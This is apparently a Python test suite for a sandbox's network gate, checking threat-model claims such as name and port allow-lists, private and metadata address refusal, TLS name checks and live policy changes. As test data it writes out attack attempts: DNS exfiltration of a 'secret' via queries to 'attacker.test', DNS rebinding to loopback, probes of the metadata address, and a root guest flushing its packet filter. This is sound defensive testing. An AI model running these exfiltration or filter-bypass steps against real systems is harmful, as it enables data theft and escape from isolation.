# SPDX-License-Identifier: Apache-2.0
"""The claims of docs/threat-model.md about the gate (N…), against servers in a network namespace of the case's own (testnet.py)."""

import contextlib
import json
import socket
import struct
import subprocess

import testnet
from harness import case, equal, fail, true, wait_until, write
from netprobe import detached, inside, log_of, python


@case(image="base", network=True)
def what_is_allowed_connects_and_what_is_not_is_refused(host):
    """N1: names, ports, addresses of both families, TCP and UDP; refusals are seen at once, and say why in the log."""
    net = host.network
    net.names.update({"example.com": [testnet.PUBLIC], "other.example": [testnet.PUBLIC_2]})
    port = net.serve_text("hello")
    other = net.serve_text("other")
    udp, datagrams = net.serve_datagrams(lambda data: b"udp " + data)
    name = detached(host, "net", "--allow", f"example.com:{port}", "--allow", f"[{testnet.PUBLIC_6}]:{port}", "--allow",
                    f"udp:{testnet.PUBLIC}:{udp}")
    script = f'''
UDP = socket.SOCK_DGRAM
print(probe("example.com", {port}), probe("example.com", {other}), probe("other.example", {port}),
      probe("{testnet.PUBLIC}", {port}), probe("{testnet.PUBLIC_6}", {port}), probe("{testnet.PUBLIC_6}", {other}),
      probe("{testnet.PUBLIC}", {udp}, UDP, b"x"), probe("{testnet.PUBLIC_2}", {udp}, UDP, b"x"),
      probe("{testnet.PUBLIC}", 443, UDP, b"quic"))
'''
    inside(host, name, script).expect(
        out="hello ECONNREFUSED EAI_NONAME ECONNREFUSED hello ECONNREFUSED udp x ECONNREFUSED ECONNREFUSED\n")
    equal(datagrams, [b"x"], "datagrams that arrived")
    refused = [(entry.get("name") or entry["address"], entry["port"]) for entry in log_of(host, name, "connect")
               if entry["verdict"] == "refused"]
    equal(refused, [("example.com", other), (testnet.PUBLIC, port), (testnet.PUBLIC_6, other), (testnet.PUBLIC_2, udp),
                    (testnet.PUBLIC, 443)], "refusals in the ledger")
    names = {entry["name"]: entry["reason"] for entry in log_of(host, name, "name")}
    equal(names, {"other.example": "no rule allows 'other.example'"}, "refused names")
    allowed = [entry for entry in log_of(host, name, "connect") if entry["verdict"] == "allowed"]
    equal(allowed[0]["rule"], f"example.com:{port}", "rule in the ledger")
    host.caisson("rm", "-f", name).expect()


@case(image="base", network=True)
def the_end_of_a_run_says_what_was_refused(host):
    """A newcomer's download that fails explains itself."""
    done = host.caisson("run", "--", "curl", "-sS", "-m", "20", "http://example.com/").expect(code=6, out="")
    lines = [line for line in done.err.splitlines() if line.startswith("caisson: ")]
    true(len(lines) == 1 and "example.com" in lines[0] and "--allow example.com" in lines[0], f"no such line: {done.err!r}")
    host.network.names["example.com"] = [testnet.PUBLIC]
    port, _ = host.network.serve_http("page")
    host.caisson("run", "--allow", "example.com", "--", "curl", "-sS", "-m", "20", f"http://example.com:{port}/").expect(out="page", err="")


@case(image="base", network=True)
def a_refused_name_never_leaves_the_host(host):
    """N2: nothing of what a guest asks for arrives at the host's name server, whatever the name or the record's type says."""
    net = host.network
    net.names["example.com"] = [testnet.PUBLIC]
    script = r'''
import random, struct
def ask(name, kind, over=socket.SOCK_DGRAM):
    question = b"".join(bytes([len(one)]) + one.encode() for one in name.split(".")) + b"\0" + struct.pack(">HH", kind, 1)
    message = struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + question
    with socket.socket(socket.AF_INET, over) as one:
        one.settimeout(20)
        one.connect(("198.18.0.1", 53))
        if over == socket.SOCK_STREAM:
            one.sendall(struct.pack(">H", len(message)) + message)
            size = struct.unpack(">H", one.recv(2, socket.MSG_WAITALL))[0]
            answer = one.recv(size, socket.MSG_WAITALL)
        else:
            one.send(message)
            answer = one.recv(4096)
    return answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
secret = "s3cr3t" * 9
print([ask(f"{secret}.attacker.test", kind) for kind in (1, 28, 16, 15, 33, 65, 255)],
      ask(f"{secret}.attacker.test", 1, socket.SOCK_STREAM), ask("9.9.9.9.in-addr.arpa", 12), ask(f"{secret}.example.com", 1),
      ask("example.com", 1), ask("example.com", 28), ask("example.com", 16))
'''
    name = detached(host, "dns", "--allow", "example.com")
    nothing = "(3, 0)"
    inside(host, name, script).expect(
        out=f"[{', '.join([nothing] * 7)}] {nothing} {nothing} {nothing} (0, 1) (0, 0) (0, 0)\n")
    # The control: a record that a rule allows is asked for, and seen by the recorder.
    equal(net.queries, [("example.com", 16)], "queries at the host's name server")
    host.caisson("rm", "-f", name).expect()


@case(image="base", network=True)
def a_name_that_leads_to_a_private_address_is_refused(host):
    """N3: loopback, private, carrier-grade, link-local and metadata addresses behind an allowed name; also when the name server
    changes its answer. A rule that names the address opens it."""
    net = host.network
    port = net.serve_text("canary")
    bad = {"private": testnet.PRIVATE, "loopback": "127.0.0.1", "metadata": testnet.METADATA, "carrier": testnet.CARRIER,
           "mapped": "::ffff:127.0.0.1", "loopback6": "::1"}
    for label, address in bad.items():
        net.names[f"{label}.example.com"] = [address]
    turns = iter([[testnet.PUBLIC], ["127.0.0.1"], ["127.0.0.1"], ["127.0.0.1"]])
    current = {}

    def rebinding():
        # One answer for a look-up's A and AAAA queries.
        current["count"] = current.get("count", 0) + 1
        if current["count"] % 2 == 1:
            current["answer"] = next(turns)
        return current["answer"]

    net.names["rebind.example.com"] = rebinding
    targets = [f"{label}.example.com" for label in bad]
    script = f'''
print([probe(one, {port}) for one in {targets!r}], probe("rebind.example.com", {port}), probe("rebind.example.com", {port}),
      [probe(one, {port}) for one in ("10.7.7.7", "169.254.169.254", "100.64.7.7")], probe("localhost", {port}))
'''
    name = detached(host, "private", "--allow", "*.example.com")
    inside(host, name, script).expect(
        out=f"{['ECONNREFUSED'] * len(bad)} canary ECONNREFUSED {['ECONNREFUSED'] * 3} ECONNREFUSED\n")
    # By the judgement of the address: that nobody listens there would look the same to the client.
    judged = {entry["name"]: (entry["verdict"], entry["reason"].split(" (")[0]) for entry in log_of(host, name, "connect")
              if "name" in entry and "reason" in entry}
    equal(judged, {f"{label}.example.com": ("refused", f"'{label}.example.com' has the address '{address.removeprefix('::ffff:')}' port {port}")
                   for label, address in [*bad.items(), ("rebind", "127.0.0.1")]}, "verdicts in the ledger")
    host.caisson("policy", "allow", name, testnet.PRIVATE).expect()
    inside(host, name, f'print(probe("private.example.com", {port}), probe("10.7.7.7", {port}), probe("metadata.example.com", {port}))'
           ).expect(out="canary canary ECONNREFUSED\n")
    host.caisson("rm", "-f", name).expect()
    # Not even where everything is allowed.
    python(host, f'print(probe("private.example.com", {port}), probe("169.254.169.254", {port}), probe("rebind.example.com", {port}))',
           "--net", "open").expect(out="ECONNREFUSED ECONNREFUSED ECONNREFUSED\n", err_has="the network refused 3 requests: ")


@case(image="base", network=True)
def the_hosts_own_addresses_are_refused(host):
    """N25: with `--net open` as well, by address, by a name, and by addresses that embed one; a rule for the address opens it. What is
    the host's own is found out at each connection."""
    net = host.network
    net.names["own.example.com"] = [testnet.OWN]
    port, other = net.serve_text("own"), net.serve_text("other")
    nat64, six_to_four = (f"{begin}5db8:d828" for begin in ("64:ff9b::", "2002:"))
    targets = [testnet.OWN, testnet.OWN_6, "own.example.com", nat64, f"{six_to_four}::1"]
    ask = f"print([probe(one, {port}) for one in {targets!r}], probe('{testnet.OWN}', {other}), probe('{testnet.PUBLIC_2}', {port}))"
    name = detached(host, "own", "--net", "open")
    refused = ["ECONNREFUSED"] * len(targets)
    inside(host, name, ask).expect(out=f"{refused} ECONNREFUSED own\n")
    why = "(this host's own address, which only a rule for that address opens)"
    reasons = [entry["reason"] for entry in log_of(host, name, "connect") if entry["verdict"] == "refused"]
    equal(len(reasons), len(targets) + 1, "refusals in the ledger")
    true(all(why in reason for reason in reasons), reasons)
    host.caisson("policy", "check", name, f"{testnet.OWN}:{port}").expect(code=1, out_has=["refused", why])
    # A network around it is not a rule for it.
    host.caisson("policy", "allow", name, "93.184.216.0/24").expect()
    inside(host, name, ask).expect(out=f"{refused} ECONNREFUSED own\n")
    host.caisson("policy", "allow", name, f"{testnet.OWN}:{port}").expect()
    inside(host, name, ask).expect(out=f"{['own', 'ECONNREFUSED', 'own', *refused[3:]]} ECONNREFUSED own\n")
    for change, answer in (("add", "ECONNREFUSED"), ("del", "own")):
        subprocess.run(["ip", "addr", change, f"{testnet.PUBLIC_2}/32", "dev", "lo"], check=True)
        inside(host, name, f"print(probe('{testnet.PUBLIC_2}', {port}))").expect(out=f"{answer}\n")
    host.caisson("rm", "-f", name).expect()


@case(image="base", network=True)
def groups_do_not_lead_to_the_hosts_own_addresses(host):
    """N25: neither a remote in the workspace's git configuration, which a sandbox may have written, nor a registry of the user's own."""
    net = host.network
    net.names["own.example.com"] = [testnet.OWN]
    port = net.serve_text("own")
    write(f"{host.home}/.npmrc", f"registry=http://own.example.com:{port}/\n@x:registry=http://{testnet.OWN}:{port}/\n")
    git = ["git", "-c", "init.defaultBranch=main", "-C", host.work]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "remote", "add", "origin", f"http://[{testnet.OWN_6}]:{port}/x.git"], check=True)
    ask = f"print([probe(one, {port}) for one in ('{testnet.OWN}', '{testnet.OWN_6}', 'own.example.com')])"
    python(host, ask, "--allow", "@registries", "--allow", "@git").expect(
        out=f"{['ECONNREFUSED'] * 3}\n", err_has=["'own.example.com' leads to this host itself, at 93.184.216.40",
                                                  f"names '{testnet.OWN}': it is this host's own address",
                                                  f"names '{testnet.OWN_6}': it is this host's own address"])


@case(image="base", network=True)
def names_are_what_they_are_on_the_host(host):
    """A name of the host's own file is reached; the host's search domains are not put behind a name that was judged."""
    net = host.network
    port = net.serve_text("canary")
    net.add_line("/etc/hosts", f"{testnet.PUBLIC} file.example.com")
    net.add_line("/etc/resolv.conf", "search corp.example")
    net.names["missing.example.com.corp.example"] = [testnet.PUBLIC]
    python(host, f'print(probe("file.example.com", {port}), *(probe("missing.example.com", {port}) for _ in range(3)))',
           "--allow", "*.example.com").expect(out="canary ECONNREFUSED ECONNREFUSED ECONNREFUSED\n")
    equal({name for name, _ in net.queries}, {"missing.example.com"})


@case(image="base", network=True)
def only_the_allowed_ports_of_the_host_are_reached(host):
    """N4: host.caisson.internal is the host's loopback, port by port."""
    with socket.create_server(("127.0.0.1", 0)) as allowed, socket.create_server(("127.0.0.1", 0)) as canary:
        port, other = allowed.getsockname()[1], canary.getsockname()[1]
        script = f'''
one = socket.create_connection(("host.caisson.internal", {port}), 20)
print("connected", probe("host.caisson.internal", {other}), probe("127.0.0.1", {port}))
'''
        python(host, script, "--allow", f"host.caisson.internal:{port}").expect(out="connected ECONNREFUSED ECONNREFUSED\n",
                                                                              err_has="refused 1 request")
        allowed.accept()[0].close()
        canary.setblocking(False)
        try:
            canary.accept()
            fail("the guest reached a port that no rule allows")
        except BlockingIOError:
            pass


@case(image="base", network=True)
def tls_must_name_the_host_that_was_allowed(host):
    """N5: a ClientHello with another name, with none, or with an encrypted one is not passed on."""
    net = host.network
    net.names["example.com"] = [testnet.PUBLIC]
    seen = []

    def record(connection):
        got = b""
        with contextlib.suppress(ConnectionResetError), connection:
            got = connection.recv(65536)
        seen.append(got)

    port = net.serve(record)
    script = f'''
import ssl
def hello(server_name, extra=b""):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=server_name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    record = outgoing.read()
    if extra:  # one more extension, and the lengths before it
        body = bytearray(record[9:])
        at = 2 + 32
        at += 1 + body[at]
        at += 2 + int.from_bytes(body[at:at + 2], "big")
        at += 1 + body[at]
        body[at:at + 2] = (int.from_bytes(body[at:at + 2], "big") + len(extra)).to_bytes(2, "big")
        body += extra
        record = record[:3] + (len(body) + 4).to_bytes(2, "big") + record[5:6] + len(body).to_bytes(3, "big") + bytes(body)
    with socket.create_connection(("example.com", {port}), 20) as one:
        for at in range(0, len(record), 100):  # in pieces
            one.sendall(record[at:at + 100])
        try:
            return "end" if one.recv(1) == b"" else "data"
        except ConnectionResetError:
            return "reset"
print(hello("example.com"), hello("EXAMPLE.com"), hello("evil.test"), hello("sub.example.com"), hello(None),
      hello("example.com", b"\\xfe\\x0d\\x00\\x04abcd"))
'''
    done = python(host, script, "--allow", "example.com").expect(out="end end reset reset reset reset\n")
    wait_until(lambda: len(seen) == 6, "six connections at the server")
    equal([b"example.com" in one.lower() for one in seen], [True, True, False, False, False, False], "hellos that arrived")
    equal([len(one) for one in seen[2:]], [0] * 4, "bytes that arrived of the refused ones")
    true("the network refused 4 requests" in done.err, f"no line about it: {done.err!r}")


@case(image="base", network=True)
def a_policy_is_changed_live_and_kept(host):
    """N6: an added rule is in force at once, a denied connection ends, and a restart has neither more nor less."""
    net = host.network
    net.names["example.com"] = [testnet.PUBLIC]
    port = net.serve_held()
    name = detached(host, "live")
    ask = f'print(probe("example.com", {port}))'
    inside(host, name, ask).expect(out="EAI_NONAME\n")
    host.caisson("policy", "check", name, f"example.com:{port}").expect(code=1, out_has="refused: no rule allows 'example.com'")
    host.caisson("policy", "allow", name, "example.com").expect(out="", err="")
    host.caisson("policy", "check", name, f"http://example.com:{port}/").expect(out_has="allowed")
    inside(host, name, ask).expect(out="x\n")
    holding = host.start("exec", name, "--", "python3", "-c", f'''
import socket
one = socket.create_connection(("example.com", {port}))
one.recv(1)
print("open", flush=True)
try:
    print(one.recv(1))
except ConnectionResetError:
    print("reset")
''')
    equal(holding.stdout.readline(), b"open\n", "first line")
    host.caisson("policy", "deny", name, "*.com").expect()
    out, _ = holding.communicate(timeout=60)
    equal(out, b"reset\n", "an open connection that a new rule denies")
    inside(host, name, ask).expect(out="EAI_NONAME\n")
    host.caisson("stop", name).expect()
    rules = host.caisson("policy", "ls", "--json", name).expect().json()["rules"]
    equal([(one["rule"], one["action"]) for one in rules], [("example.com", "allow"), ("*.com", "deny")], "rules of the stopped sandbox")
    host.caisson("start", name).expect()
    inside(host, name, ask).expect(out="EAI_NONAME\n")
    denied = host.caisson("policy", "ls", "--json", name).expect().json()["rules"][1]["id"]
    host.caisson("policy", "rm", name, denied).expect()
    inside(host, name, ask).expect(out="x\n")
    host.caisson("policy", "rm", name, 77).error(125, "no rule 77")
    host.caisson("rm", "-f", name).expect()


@case(image="base", network=True)
def a_guest_without_its_packet_filter_has_no_network(host):
    """N7: root in the guest takes the rules away, and sends past them; nothing arrives."""
    net = host.network
    net.names["example.com"] = [testnet.PUBLIC]
    seen = []
    port = net.serve(lambda connection: (seen.append(1), connection.close()))
    _, datagrams = net.serve_datagrams(lambda data: None, testnet.PUBLIC, 7)
    script = f'''
import subprocess
print(probe("{testnet.PUBLIC}", {port}))
subprocess.run(["nft", "flush", "ruleset"], check=True)
subprocess.run(["ip", "rule", "del", "pref", "100"], check=True)
print(probe("{testnet.PUBLIC}", {port}, seconds=3), probe("{testnet.PUBLIC}", 7, socket.SOCK_DGRAM, b"x", seconds=1))
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind(("dummy0", 0x800))
raw.send(b"\\xff" * 12 + b"\\x08\\x00" + b"E" + b"\\0" * 60)
'''
    python(host, script, "--allow", "example.com", user="root").expect(out="ECONNREFUSED\ntimeout timeout\n", err_has="refused 1 request")
    equal((seen, datagrams), ([], []), "what arrived")


@case(image="base", network=True)
def icmp_and_other_protocols_are_refused(host):
    """N8: nothing but TCP and UDP leaves, and its sender is told."""
    script = f'''
import struct
def send(protocol, address):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as one:
        one.settimeout(5)
        one.setsockopt(socket.SOL_IP, 11, 1)  # IP_RECVERR
        one.connect((address, 0))
        try:
            one.send(struct.pack(">BBHHH", 8, 0, 0xf7fe, 0, 1))
            one.recv(100)
            return "answered"
        except OSError as error:
            return errno.errorcode.get(error.errno, repr(error))
print(send(1, "{testnet.PUBLIC}"), send(132, "{testnet.PUBLIC}"), send(47, "{testnet.PUBLIC}"))
'''
    python(host, script, "--net", "open", user="root").expect(out="EPERM EPERM EPERM\n", err="")


# A container image with nothing but curl and what it needs.
CURL_CONTAINER = r'''
mkdir -p /tmp/c/root/usr/bin && cd /tmp/c && cp /usr/bin/curl root/usr/bin/
for one in $(ldd /usr/bin/curl | grep -o '/[^ ]*'); do mkdir -p "root$(dirname "$one")"; cp -L "$one" "root$one"; done
printf 'FROM scratch\nCOPY root /\nENTRYPOINT ["/usr/bin/curl", "-sS", "-m", "60"]\n' >Dockerfile
docker build -q -t curl . >/dev/null
'''


@case(image="base", network=True, timeout=900, processors=2)
def containers_have_the_same_network(host):
    """N10: a container of the inner Docker Engine, on the default network and on one of its own, and `docker build`: the same
    rules, with nothing to configure."""
    net = host.network
    net.names.update({"example.com": [testnet.PUBLIC], "evil.test": [testnet.PUBLIC_2]})
    port, requests = net.serve_http("page")
    canary, reached = net.serve_http("canary")
    name = detached(host, "containers", "--allow", f"example.com:{port}")
    host.caisson("exec", "-u", "root", name, "--", "sh", "-ec", CURL_CONTAINER, timeout=600).expect()
    host.caisson("exec", name, "--", "docker", "network", "create", "own").expect()
    for options in ((), ("--network", "own")):
        run = ("exec", name, "--", "docker", "run", "--rm", *options, "curl")
        host.caisson(*run, f"http://example.com:{port}/", timeout=600).expect(out="page")
        host.caisson(*run, f"http://example.com:{canary}/", timeout=600).expect(code=7)
        host.caisson(*run, f"http://evil.test:{canary}/", timeout=600).expect(code=6)
        host.caisson(*run, f"http://{testnet.PUBLIC}:{canary}/", timeout=600).expect(code=7)
        host.caisson(*run, f"http://[{testnet.PUBLIC_6}]:{canary}/", timeout=600).expect(code=7)
    dockerfile = f'FROM curl\nRUN ["/usr/bin/curl", "-sS", "-o", "/page", "http://example.com:{port}/"]\n'
    host.caisson("exec", "-i", name, "--", "sh", "-c", "docker build -q - >/dev/null && echo built", stdin=dockerfile.encode(),
                 timeout=600).expect(out="built\n")
    equal((len(requests), reached), (3, []), "requests at the servers")
    host.caisson("rm", "-f", name).expect()


@case(image="base", network=True)
def a_mirror_at_a_private_address_is_reached_as_a_registry(host):
    """The user's own settings name it; a metadata address behind such a name is not opened."""
    net = host.network
    net.names.update({"mirror.corp.example": [testnet.PRIVATE], "metadata.corp.example": [testnet.METADATA]})
    port = net.serve_text("package")
    with open(f"{host.home}/.npmrc", "w", encoding="utf-8") as file:
        file.write(f"registry=http://mirror.corp.example:{port}/\n@x:registry=http://metadata.corp.example:{port}/\n")
    script = f'print(probe("mirror.corp.example", {port}), probe("metadata.corp.example", {port}), probe("{testnet.PRIVATE}", {port + 1}))'
    python(host, script, "--allow", "@registries").expect(out="package ECONNREFUSED ECONNREFUSED\n")


@case(image=None)
def mistakes_in_rules_are_explained(host):
    run = ("run", "--allow")
    host.caisson(*run, "exa mple.com", "--", "true").error(125, "--allow", "exa mple.com")
    host.caisson(*run, "example.com:99999", "--", "true").error(125, "--allow", "99999")
    host.caisson("run", "--net", "lockd", "--", "true").error(125, "lockd", "locked")
    host.caisson("run", "--net", "none", "--allow", "example.com", "--", "true").error(125, "none")
    host.caisson(*run, "example.com GET x", "--", "true").error(125, "example.com GET x")
    host.caisson("run", "--net-connections", "0", "--", "true").error(125, "--net-connections")
    host.caisson("policy", "ls", "nobody").error(125, "nobody")
